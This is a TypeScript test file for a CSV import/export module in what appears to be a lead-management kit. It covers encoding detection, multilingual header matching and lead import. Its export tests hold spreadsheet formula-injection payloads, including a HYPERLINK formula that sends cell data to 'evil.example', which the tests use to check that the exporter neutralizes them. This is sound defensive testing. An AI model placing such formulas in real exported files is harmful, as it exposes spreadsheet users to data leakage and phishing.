import { expect } from '@open-wc/testing';
import { dsvFormat } from 'd3-dsv';
import { runsAsFormula as runs, spreadsheetRead } from '../helpers/spreadsheet.js';
import { CsvTooLargeError, decodeCsv, detectDelimiter, formatCsv, matchHeaders, neutralizeCell, parseCsv, rowsToLeads } from '../../src/domain/csv.js';
import { LocalAdapter, MemoryStore } from '../../src/adapters/local/index.js';

const utf8 = (s: string) => new TextEncoder().encode(s);

/** windows-1251 bytes for a Cyrillic string (the codepage maps А..я to 0xC0..0xFF, Ё/ё, Іі, Її, Єє, Ґґ). */
function cp1251(s: string): Uint8Array {
  const special: Record<string, number> = { Ё: 0xa8, ё: 0xb8, І: 0xb2, і: 0xb3, Ї: 0xaf, ї: 0xbf, Є: 0xaa, є: 0xba, Ґ: 0xa5, ґ: 0xb4 };
  return Uint8Array.from([...s].map((ch) => {
    const c = ch.charCodeAt(0);
    if (c < 0x80) return c;
    if (special[ch] !== undefined) return special[ch];
    if (c >= 0x410 && c <= 0x44f) return c - 0x410 + 0xc0;
    throw new Error(`no cp1251 byte for ${ch}`);
  }));
}

describe('domain: CSV', () => {
  it('decodes UTF-8 with and without BOM, and a chosen legacy encoding', () => {
    const text = 'Імʼя;Електронна пошта\r\nОлена;olena@example.com';
    expect(decodeCsv(Uint8Array.from([0xef, 0xbb, 0xbf, ...utf8(text)]))).to.equal(text);
    expect(decodeCsv(utf8(text))).to.equal(text);
    expect(decodeCsv(cp1251('Имя;Фамилия\r\nДмитрий;Іванов'), 'windows-1251')).to.equal('Имя;Фамилия\r\nДмитрий;Іванов');
  });

  it('refuses a file over the size limit before reading it', () => {
    expect(() => decodeCsv(new Uint8Array(11), 'utf-8', 10)).to.throw(CsvTooLargeError);
  });

  it('detects comma, semicolon and tab, and parses quoted cells', () => {
    expect(detectDelimiter('a;b;c\n1;2;3')).to.equal(';');
    expect(detectDelimiter('a,b\n1,2')).to.equal(',');
    expect(detectDelimiter('a\tb')).to.equal('\t');
    expect(parseCsv('\ufeffname,note\r\n"Pop, Ana","said ""hi""\nthen left"')).to.deep.equal([
      ['name', 'note'],
      ['Pop, Ana', 'said "hi"\nthen left'],
    ]);
  });

  it('matches headers to lead fields in the kit’s languages', () => {
    expect(matchHeaders(['Prénom', 'Nom', 'Courriel', 'Société', 'Pays'])).to.deep.equal(['firstName', 'lastName', 'email', 'company', 'country']);
    expect(matchHeaders(['Імʼя', 'Прізвище', 'Електронна пошта', 'Компанія'])).to.deep.equal(['firstName', 'lastName', 'email', 'company']);
    expect(matchHeaders(['Tên', 'Họ', 'Email', 'Công ty', 'Điện thoại'])).to.deep.equal(['firstName', 'lastName', 'email', 'company', 'phone']);
    expect(matchHeaders(['Prenume', 'Nume', 'E-mail', 'Companie'])).to.deep.equal(['firstName', 'lastName', 'email', 'company']);
    expect(matchHeaders(['Имя', 'Фамилия', 'Электронная почта', 'Unknown', 'email'])).to.deep.equal(['firstName', 'lastName', 'email', undefined, undefined]);
  });

  it('imports a real-looking file: BOM, Cyrillic names, a malformed row and a duplicate email', async () => {
    const file = utf8('\ufeffИмя;Фамилия;E-mail;Компания\r\nОлена;Шевченко;olena@example.com;ТОВ «Світанок»\r\nДмитрий;Иванов;not-an-email;ООО «Вектор»\r\nOlena;Dup;OLENA@example.com;Other\r\n');
    const rows = parseCsv(decodeCsv(file));
    const leads = rowsToLeads(rows.slice(1), matchHeaders(rows[0]));
    const adapter = new LocalAdapter(new MemoryStore());
    await adapter.saveCampaign({ id: 'A', name: 'A' });
    const result = await adapter.importLeads({ campaignId: 'A' }, leads);
    expect(result.created).to.equal(1);
    expect(result.matched).to.equal(1);
    expect(result.errors.map((e) => [e.row, e.path, e.code])).to.deep.equal([[2, 'email', 'email']]);
    const person = await adapter.findPersonByEmail('olena@example.com');
    const lead = await adapter.getLead(person!.id);
    expect(lead).to.deep.include({ firstName: 'Олена', lastName: 'Шевченко', company: 'ТОВ «Світанок»' });
  });

  it('exports with a BOM, CRLF and formula-looking cells neutralized', () => {
    for (const bad of ['=1+1', '+SUM(A1)', '-2+3', '@cmd', '\tx', '\rx']) expect(neutralizeCell(bad).startsWith("'")).to.equal(true);
    expect(neutralizeCell('Ana')).to.equal('Ana');
    const csv = formatCsv(['name', 'note'], [['Олена', '=HYPERLINK("http://evil")'], ['Nguyễn', 'a, b']]);
    expect(csv.startsWith('\ufeff')).to.equal(true);
    expect(csv).to.equal('\ufeffname,note\r\nОлена,"\'=HYPERLINK(""http://evil"")"\r\nNguyễn,"a, b"\r\n');
  });

  it("neutralizes a formula after a separator or line break inside a cell (Excel with ';' runs 'x;=HYPERLINK(…)')", () => {
    const attack = 'x;=HYPERLINK("http://evil.example/?"&A1,"click")';
    const csv = formatCsv(['name'], [[attack], ['\n=cmd'], ['a\n@SUM(1)'], ['ok,\t+1'], ['1;"-2']]);
    // Read as a ';' spreadsheet reads it: no cell may start with a formula trigger.
    for (const delimiter of [',', ';', '\t']) {
      for (const cell of spreadsheetRead(csv.slice(1), delimiter).flat()) expect(runs(cell), `${JSON.stringify(cell)} read with ${JSON.stringify(delimiter)}`).to.equal(false);
    }
    expect(csv).to.include(`"x;'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    // A leading LF becomes CRLF first, then is neutralized (it was left starting with CR).
    expect(neutralizeCell('\n=cmd')).to.equal("'\r\n'=cmd");
  });

  it('writes any generated cell so that readers with ",", ";" or tab never meet a formula, and the writer\'s own separator reads it back', () => {
    // Property test over generated cells: a seeded generator (reproducible), 3,000 rows of 4 cells
    // from an alphabet of every trigger, separator, quote, line break, space and letters, read
    // back as a spreadsheet reads it with each separator.
    let seed = 0x2f6e2b1;
    const random = () => ((seed = (seed * 1103515245 + 12345) >>> 0) / 2 ** 32);
    const alphabet = ['=', '+', '-', '@', '\t', '\r', '\n', ',', ';', '"', ' ', "'", 'a', 'Ж', 'ệ', '1', '(', ')'];
    const cell = () => Array.from({ length: Math.floor(random() * 9) }, () => alphabet[Math.floor(random() * alphabet.length)]).join('');
    const rows = Array.from({ length: 3000 }, () => [cell(), cell(), cell(), cell()]);
    for (const writer of [',', ';'] as const) {
      const csv = formatCsv(['a', 'b', 'c', 'd'], rows, writer);
      expect(csv.startsWith('\ufeff')).to.equal(true);
      for (const reader of [',', ';', '\t']) {
        const bad = spreadsheetRead(csv.slice(1), reader).flat().find(runs);
        expect(bad, `written with ${JSON.stringify(writer)}, read with ${JSON.stringify(reader)}`).to.equal(undefined);
      }
      // Read with the writer's separator (by a spreadsheet and by d3-dsv alike): every row comes
      // back whole, each cell its neutralized self.
      const back = dsvFormat(writer).parseRows(csv.slice(1)).slice(1);
      expect(spreadsheetRead(csv.slice(1), writer).slice(1)).to.deep.equal(back);
      expect(back.length).to.equal(rows.length);
      back.forEach((r, i) => expect(r).to.deep.equal(rows[i].map(neutralizeCell)));
    }
  });
});
